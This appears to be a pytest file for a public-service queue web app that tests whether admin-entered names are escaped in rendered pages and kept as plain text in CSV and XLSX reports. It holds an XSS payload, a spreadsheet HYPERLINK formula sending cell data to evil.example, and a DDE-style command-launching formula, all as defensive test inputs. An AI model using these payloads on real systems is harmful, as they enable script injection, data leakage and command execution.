"""Names an admin types are text wherever the server writes them: in the pages it renders
(Jinja escapes them) and in the CSV and XLSX reports (a leading = + - @ is not a formula).
In Chromium, for the pages the scripts fill: tests/browser/test_xss.py."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

EVIL = "<img src=x onerror=alert(1)>"
TICKET = {"procedure_id": "chung-thuc-ban-sao", "documents_complete": True, "priority": None}


@pytest.fixture
def evil_names(admin, db):
    """A field, procedure, counter, officer and center all named like markup."""
    center = admin.get("/api/admin/center").json
    assert admin.put("/api/admin/center", json={**center, "name": EVIL}).status_code == 200
    field = {"id": "doc-hai", "name": EVIL, "letter": "X"}
    assert admin.post("/api/admin/fields", json=field).status_code == 201
    procedure = {"id": "thu-tuc-doc", "field": "doc-hai", "name": EVIL, "short_name": EVIL,
                 "documents": [EVIL], "no_appointment": True}  # fmt: skip
    assert admin.post("/api/admin/procedures", json=procedure).status_code == 201
    counter = {"id": 7, "name": EVIL, "procedures": ["thu-tuc-doc"]}
    assert admin.post("/api/admin/counters", json=counter).status_code == 201
    db.execute("UPDATE users SET full_name = ? WHERE username = 'canbo'", [EVIL])
    return EVIL


def test_server_rendered_pages_escape_admin_typed_names(client, admin, evil_names):
    for browser, path in [(client, "/"), (client, "/kiosk"), (client, "/display"),
                          (client, "/display/counter/7"), (client, "/rate/7"),
                          (client, "/khong-hen"), (admin, "/reports?period=2026-11")]:  # fmt: skip
        html = browser.get(path).get_data(as_text=True)
        assert "<img" not in html, path
        assert "&lt;img src=x onerror=alert(1)&gt;" in html, path


FORMULAS = {
    "procedure": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "field": "+cmd|' /C calc'!A0",
    "counter": "-2+3",
    "officer": "@SUM(1+1)",
}


@pytest.fixture
def formula_names(app, admin, officer, db):
    """A day's activity under names a spreadsheet would take for formulas."""
    field = {"id": "cong-thuc", "name": FORMULAS["field"], "letter": "Y"}
    assert admin.post("/api/admin/fields", json=field).status_code == 201
    procedure = {"id": "cong-thuc", "field": "cong-thuc", "name": FORMULAS["procedure"],
                 "short_name": FORMULAS["procedure"]}  # fmt: skip
    assert admin.post("/api/admin/procedures", json=procedure).status_code == 201
    counter = {"id": 8, "name": FORMULAS["counter"], "procedures": ["cong-thuc"]}
    assert admin.post("/api/admin/counters", json=counter).status_code == 201
    db.execute("UPDATE users SET full_name = ? WHERE username = 'canbo'", [FORMULAS["officer"]])
    kiosk = app.test_client()
    body = {**TICKET, "procedure_id": "cong-thuc"}
    assert kiosk.post("/api/tickets", json=body).status_code == 201
    ticket = officer.post("/api/counters/8/next").json
    officer.post(f"/api/tickets/{ticket['id']}/finish", json={"outcome": "resolved"})
    return FORMULAS


def report_file(admin: Any, file_format: str) -> Any:
    response = admin.get(f"/api/reports/summary?from=2026-11-26&to=2026-11-26&format={file_format}")
    assert response.status_code == 200
    return response


def test_the_csv_report_keeps_formula_like_names_as_text(admin, formula_names):
    text = report_file(admin, "csv").get_data(as_text=True).lstrip("\ufeff")
    names = {row[2] for row in csv.reader(io.StringIO(text))}
    for name in formula_names.values():
        assert "'" + name in names
        assert name not in names


def test_the_xlsx_report_keeps_formula_like_names_as_text(admin, formula_names):
    workbook = load_workbook(io.BytesIO(report_file(admin, "xlsx").data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    names = {cell.value: cell.data_type for cell in cells if cell.value in FORMULAS.values()}
    assert names == dict.fromkeys(formula_names.values(), "s")
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
